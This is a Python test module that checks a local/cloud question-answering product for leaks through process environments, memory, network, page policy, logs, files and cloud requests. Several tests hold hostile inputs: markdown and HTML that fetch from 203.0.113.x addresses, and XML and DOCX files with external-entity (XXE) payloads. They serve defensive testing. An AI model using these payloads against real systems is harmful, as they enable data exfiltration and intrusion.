"""Leaks that only the whole product can have: processes, environments, memory, files, the page, the command line."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import psutil

from tests.fakes.cloud_server import Scenario
from tests.ingest.samples import make_zip
from tests.proof.home import ROOT, airlock, environment_of
from tests.proof.papers import Paper
from tests.proof.paths.locality import HOSTILE, URLS
from tests.proof.product import Product, serve, settings_of
from tests.proof.recorder import Recorder
from tests.proof.search import Detector
from tests.proof.servers import Cloud, LocalServer
from tests.proof.workbench import KEY, require

HEADERS_SENT = frozenset(
    {"host", "accept", "accept-encoding", "connection", "user-agent", "content-type", "content-length", "authorization"}
)
STORE = re.compile(r"^home/(store\.db.*|indexes/.*|uploads/.*|models/?.*)$|^papers/|^extra/")
"""What may hold text: the store, its indexes, and the documents themselves."""


@dataclass
class Whole:
    """The product being served, and what is around it."""

    product: Product
    local: LocalServer
    cloud: Cloud
    recorder: Recorder
    papers: tuple[Paper, ...]
    detector: Detector
    findings: list[str]
    sent: list[bytes]

    @property
    def place(self) -> Path:
        """The folder in which everything the product may write lies."""
        return self.product.home.parent

    def paper(self, folder: str, number: int = 0) -> Paper:
        """The `number`th paper of `folder`."""
        found = [paper for paper in self.papers if paper.folder == folder]
        return found[number % len(found)]

    def look_at(self, where: str, data: bytes) -> None:
        """Search something that may hold neither confidential text nor the key."""
        self.findings += [f"{where}: {sighting}" for sighting in self.detector.search(data)]
        if KEY.encode() in data:
            self.findings.append(f"{where}: the key")

    def check(self) -> bytes:
        """Search what arrived anywhere since the last check."""
        arrived = self.cloud.take()
        self.sent.append(arrived)
        self.findings += [f"cloud: {sighting}" for sighting in self.detector.search(arrived)]
        for stray in self.recorder.take():
            seen = "".join(f"; {sighting}" for sighting in self.detector.search(bytes(stray.payload)))
            self.findings.append(f"stray: {stray} {bytes(stray.payload[:80])!r}{seen}")
        return arrived


@dataclass(frozen=True, slots=True)
class WholePath:
    """A path of the whole product; as `LeakPath`."""

    name: str
    title: str
    walk: Callable[[Whole], None]


def zone_of(events: list[tuple[str, dict[str, object]]]) -> str:
    """Where an answer was written; empty when it was not."""
    done = dict(events).get("done")
    return str(done["badge"]["zone"]) if done else ""  # type: ignore[index]


def served(whole: Whole) -> None:
    for number in range(3):
        require(
            zone_of(whole.product.ask(whole.paper("public", number).question)) == "cloud", "not answered in the cloud"
        )
        require(whole.check(), "nothing reached the cloud")
        require(zone_of(whole.product.ask(whole.paper("secret", number).question)) == "local", "not answered here")
    require(not whole.check(), "something was sent for a confidential question")


def idle(whole: Whole) -> None:
    """Telemetry of a library that waits a while before it reports."""
    before = whole.recorder.packets
    time.sleep(14)
    whole.product.call("GET", "/api/status")
    require(whole.recorder.packets > before, "the recorder sees nothing")


def environments(whole: Whole) -> None:
    launcher = Path(f"/proc/{whole.product.process.pid}/environ")
    with suppress(OSError):
        require(KEY.encode() in launcher.read_bytes(), "the launcher was started without the key")
    for module in ("web.cli", "rag.models.door"):
        held = Path(f"/proc/{whole.product.pid_of(module)}/environ").read_bytes()
        require(b"AIRLOCK_HOME" in held, f"the environment of {module} cannot be read")
        names = {line.partition(b"=")[0].decode() for line in held.split(b"\0")}
        own = {"LANGSMITH_TRACING", "LANGCHAIN_TRACING_V2", "HF_HUB_OFFLINE"}  # set by the launcher, to off
        passed = names & ({*HOSTILE, "OPENAI_API_KEY", "http_proxy", "all_proxy"} - own)
        whole.findings += [f"environment of {module}: {name}" for name in sorted(passed)]
        for value in (KEY, "203.0.113."):
            if value.encode() in held:
                whole.findings.append(f"environment of {module}: {value}")


def memory(whole: Whole) -> None:
    """The key in the memory of a process that has no business with it."""
    for module in ("web.cli", "rag.models.door"):
        held, marker = _search_memory(whole.product.pid_of(module), (KEY.encode(), b"AIRLOCK_HOME"))
        require(marker, f"the memory of {module} cannot be read")
        if held:
            whole.findings.append(f"memory of {module}: the key")


def _search_memory(pid: int, needles: tuple[bytes, ...]) -> list[bool]:
    seen = [False] * len(needles)
    with Path(f"/proc/{pid}/mem").open("rb", 0) as file:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            if " rw" not in line or "[v" in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with suppress(OSError, ValueError, OverflowError):
                file.seek(start)
                data = file.read(min(end - start, 256 * 1024 * 1024))
                seen = [was or needle in data for was, needle in zip(seen, needles, strict=True)]
    return seen


def network_of_inside(whole: Whole) -> None:
    pid = whole.product.pid_of("web.cli")
    require(os.readlink(f"/proc/{pid}/ns/net") != os.readlink("/proc/self/ns/net"), "the inside shares our network")
    devices = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
    require([line.split(":")[0].strip() for line in devices] == ["lo"], "the inside has a network device")
    require(len(Path(f"/proc/{pid}/net/route").read_text().splitlines()) <= 1, "the inside has a route")


def page(whole: Whole) -> None:
    policy = whole.product.headers["content-security-policy"]
    for part in (
        "default-src 'none'",
        "img-src 'self'",
        "connect-src 'self'",
        "script-src 'self'",
        "form-action 'self'",
    ):
        require(part in policy, f"the policy lacks {part}")
    require(whole.product.headers["referrer-policy"] == "no-referrer", "referrers are sent")
    named = set(re.findall(rb"(?:src|href|action)=\"([^\"]+)\"", whole.product.page))
    require(named, "the page loads nothing")
    foreign = [name for name in named if not name.startswith((b"/", b"#")) or name.startswith(b"//")]
    whole.findings += [f"page: {name!r}" for name in foreign]
    for file in (ROOT / "web" / "static").rglob("*.[cj]s*"):
        if "vendor" not in file.parts:
            loads = re.findall(
                r"(?:url\(|import\s.*?from\s+|fetch\()[\"']?(?:https?:)?//[^\"')]+", file.read_text("utf-8")
            )
            whole.findings += [f"page: {file.name} loads {one}" for one in loads]


def markdown(whole: Whole) -> None:
    """An answer that would have a browser fetch something: kept as text, and the policy forbids the fetch."""
    evil = "![x](http://203.0.113.70/?q=1) [y][z] <img src=http://203.0.113.70>\n\n[z]: http://203.0.113.70/"
    whole.cloud.behave(Scenario(evil))
    try:
        events = whole.product.ask(whole.paper("public").question)
    finally:
        whole.cloud.behave()
    require(dict(events)["done"]["text"].startswith("![x]"), "the answer did not arrive")
    exported = whole.product.call("GET", f"/api/chats/{dict(events)['asked']['chat_id']}/export?format=md")
    require(exported, "the conversation was not exported")


def export(whole: Whole) -> None:
    events = whole.product.ask(whole.paper("secret").question)
    chat = dict(events)["asked"]["chat_id"]
    for kind in ("md", "json"):
        require(whole.product.call("GET", f"/api/chats/{chat}/export?format={kind}"), "nothing was exported")


def records(whole: Whole) -> None:
    whole.product.ask(whole.paper("secret").question)
    whole.look_at("records", json.dumps(whole.product.call("GET", "/api/receipts"), ensure_ascii=False).encode())
    for kind in ("json", "html"):
        done = airlock(whole.product.home, "receipts", "export", "--format", kind)
        require(len(done.stdout) > 500, "the export is empty")
        whole.look_at(f"records as {kind}", done.stdout.encode())


def hostile_documents(whole: Whole) -> None:
    """Documents that would have their reader fetch something."""
    away = "http://203.0.113.30/x"
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{away}" '
        'TargetMode="External"/></Relationships>'
    )
    files = {
        "fetch.html": f'<html><base href="{away}"><img src="{away}"><script src="{away}"></script><link rel=stylesheet '
        f'href="{away}"><iframe src="{away}"></iframe><p>fetch text</p></html>'.encode(),
        "fetch.md": f"# Fetch\n\n![x]({away})\n\n<img src='{away}'>\n".encode(),
        "fetch.xml": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{away}"><!ENTITY % y SYSTEM "{away}">%y;]><a>&x;</a>'.encode(),
        "fetch.docx": make_zip(
            {
                "[Content_Types].xml": f'<!DOCTYPE a [<!ENTITY % y SYSTEM "{away}">%y;]><Types/>',
                "word/_rels/document.xml.rels": relation,
                "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                "<w:body><w:p><w:r><w:t>fetch words</w:t></w:r></w:p></w:body></w:document>",
            }
        ),
    }
    for name, content in files.items():
        whole.product.upload(name, content, "public")
    held = {Path(one["path"]).name for one in whole.product.call("GET", "/api/documents")}
    require({"fetch.html", "fetch.md"} <= held, "the documents were not taken in")


def killed_gate(whole: Whole) -> None:
    pid = whole.product.pid_of("rag.gate")
    whole.cloud.behave(Scenario("word " * 200, pause=0.05))
    try:
        events = whole.product.ask(whole.paper("public").question, on={"token": lambda: os.kill(pid, signal.SIGKILL)})
    finally:
        whole.cloud.behave()
    require("done" in dict(events), "the answer did not end")
    until = time.monotonic() + 20
    while time.monotonic() < until and not whole.product.runs("rag.gate"):
        time.sleep(0.1)
    require(whole.product.pid_of("rag.gate") != pid, "the gate was not started again")
    require(zone_of(whole.product.ask(whole.paper("secret").question)) == "local", "not answered here")


def killed_door(whole: Whole) -> None:
    pid = whole.product.pid_of("rag.models.door")
    os.kill(pid, signal.SIGKILL)
    require(zone_of(whole.product.ask(whole.paper("secret").question)) == "local", "not answered here")
    until = time.monotonic() + 20
    while time.monotonic() < until and not whole.product.runs("rag.models.door"):
        time.sleep(0.1)
    time.sleep(0.5)


def command_line(whole: Whole) -> None:
    environment = settings_of(whole.local, whole.cloud)
    for arguments in (
        ("ask", "--local-only", whole.paper("public").question), ("ask", whole.paper("secret").question),
        ("search", whole.paper("secret").question), ("status",), ("doctor",), ("receipts",),
    ):  # fmt: skip
        with suppress(RuntimeError):  # the doctor may have found something, which is its business
            airlock(whole.product.home, *arguments, **environment)
    require(not whole.check(), "something was sent")
    done = airlock(whole.product.home, "ask", whole.paper("public").question, "--json", **environment)
    require(json.loads(done.stdout)["route"]["zone"] == "cloud", "the public question did not reach the cloud")


def foreign_address(whole: Whole) -> None:
    for url in URLS[:4]:
        environment = {**settings_of(whole.local, whole.cloud), "AIRLOCK_LOCAL__OLLAMA_URL": url}
        done = subprocess.run(
            [sys.executable, "-m", "web", "ask", whole.paper("secret").question],
            cwd=ROOT, env=environment_of(whole.product.home, **environment), capture_output=True, timeout=60,
            check=False,
        )  # fmt: skip
        require(done.returncode == 2, f"{url} was taken")


def local_only_mode(whole: Whole) -> None:
    environment = {**settings_of(whole.local, whole.cloud), "AIRLOCK_MODE": "local-only"}
    with serve(whole.product.home, environment) as product:
        whole.recorder.allow(product.port)
        require(not product.runs("rag.gate"), "the gate runs")
        require(zone_of(product.ask(whole.paper("public").question)) == "local", "not answered here")
    require(not whole.check(), "something was sent")


def killed_inside(whole: Whole) -> None:
    """A crash of the process that holds the text, in the middle of a confidential answer."""
    from tests.fakes.ollama_server import FakeModel
    from tests.proof.servers import LOCAL_MODEL

    environment = settings_of(whole.local, whole.cloud)
    whole.local.become(FakeModel(LOCAL_MODEL, pause=0.2))
    try:
        with serve(whole.product.home, environment) as product:
            whole.recorder.allow(product.port)
            pid = product.pid_of("web.cli")
            limits = Path(f"/proc/{pid}/limits").read_text()
            events = product.ask(whole.paper("secret").question, on={"token": lambda: os.kill(pid, signal.SIGSEGV)})
            require("done" not in dict(events), "it did not crash")
            cores = re.search(r"Max core file size\s+(\S+)", limits)
            if cores and cores[1] != "0" and _writes_cores():
                whole.findings.append(f"core files of the inside are allowed ({cores[1]})")
    finally:
        whole.local.become()


def _writes_cores() -> bool:
    """Whether this system would write a core file beside the process, or anywhere."""
    return bool(Path("/proc/sys/kernel/core_pattern").read_text().strip())


def disk(whole: Whole) -> None:
    """Every file the product could write, except the store and the documents."""
    seen = 0
    for file in sorted(whole.place.rglob("*")):
        relative = file.relative_to(whole.place).as_posix()
        if file.is_file() and not file.is_symlink() and not STORE.match(relative):
            seen += 1
            whole.look_at(f"file {relative}", file.read_bytes())
    require(seen >= 2, "there is no file to look at")


def logs(whole: Whole) -> None:
    logs = sorted(whole.place.glob("serve-*.log"))
    require(logs and b"Airlock is at" in logs[0].read_bytes(), "the product said nothing")
    for log in logs:
        whole.look_at("log", log.read_bytes())


def key_in_store(whole: Whole) -> None:
    files = [file for file in whole.product.home.rglob("*") if file.is_file() and "models" not in file.parts]
    require(any(file.name == "store.db" for file in files), "there is no store")
    for file in files:
        if KEY.encode() in file.read_bytes():
            whole.findings.append(f"file {file.name}: the key")


def requests_to_cloud(whole: Whole) -> None:
    """What was asked of the cloud, from the first request to the last: one path, few headers, the configured model."""
    everything = b"\n".join(whole.sent)
    lines = set(re.findall(rb"(?:GET|POST|PUT|HEAD|OPTIONS|CONNECT) \S+ HTTP/1.1", everything))
    require(lines, "nothing was ever sent")
    whole.findings += [f"cloud: {line!r}" for line in lines if line != b"POST /v1/chat/completions HTTP/1.1"]
    for head in re.findall(rb"POST /v1/chat/completions HTTP/1.1\r\n(.*?)\r\n\r\n", everything, re.DOTALL):
        names = {line.partition(b":")[0].decode().lower() for line in head.split(b"\r\n")}
        whole.findings += [f"header: {name}" for name in names - HEADERS_SENT]
    models = set(re.findall(rb'"model": ?"([^"]*)"', everything))
    whole.findings += [f"model: {model!r}" for model in models - {b"big"}]


def survivors(whole: Whole) -> None:
    """Nobody that the product started holds a connection to anywhere but the scene."""
    family = psutil.Process(whole.product.process.pid).children(recursive=True)
    require(len(family) >= 3, "processes are missing")
    for child in family:
        with suppress(psutil.Error):
            for one in child.net_connections("inet"):
                if one.raddr and one.raddr.ip not in ("127.0.0.1", "::1"):
                    whole.findings.append(f"connection: {child.name()} to {one.raddr}")


BEFORE = (
    WholePath("served", "The page: public to the cloud, confidential here", served),
    WholePath("environments", "Hostile variables and the key in each process's environment", environments),
    WholePath("memory", "The key in the memory of the inside and of the local door", memory),
    WholePath("inside-network", "The inside's network: no device, no route", network_of_inside),
    WholePath("page", "What the page itself would load; content policy, referrers", page),
    WholePath("markdown", "An answer with images and links to elsewhere", markdown),
    WholePath("export", "A conversation's export", export),
    WholePath("records-exported", "Sending records over the API, as JSON and as a page", records),
    WholePath("hostile-documents", "Documents that want something fetched (HTML, MD, XML, DOCX)", hostile_documents),
    WholePath("killed-gate", "The gate killed in the middle of an answer", killed_gate),
    WholePath("killed-door", "The local door killed", killed_door),
    WholePath("idle", "Telemetry: fourteen idle seconds", idle),
)
AFTER = (
    WholePath("command-line", "The command line, with and without --local-only", command_line),
    WholePath("foreign-address", "A foreign address given for the local model at start", foreign_address),
    WholePath("local-only-mode", "Mode local-only: no gate, nothing leaves", local_only_mode),
    WholePath("crash", "A crash in the middle of a confidential answer: core files, remains", killed_inside),
    WholePath("connections", "Open connections of every process", survivors),
    WholePath("requests", "Everything the cloud was ever asked: path, headers, model", requests_to_cloud),
    WholePath("logs", "Logs of the whole run", logs),
    WholePath("key-stored", "The key in the store or any file beside it", key_in_store),
    WholePath("disk", "Every file written, except the store: temporary files, crash reports", disk),
)
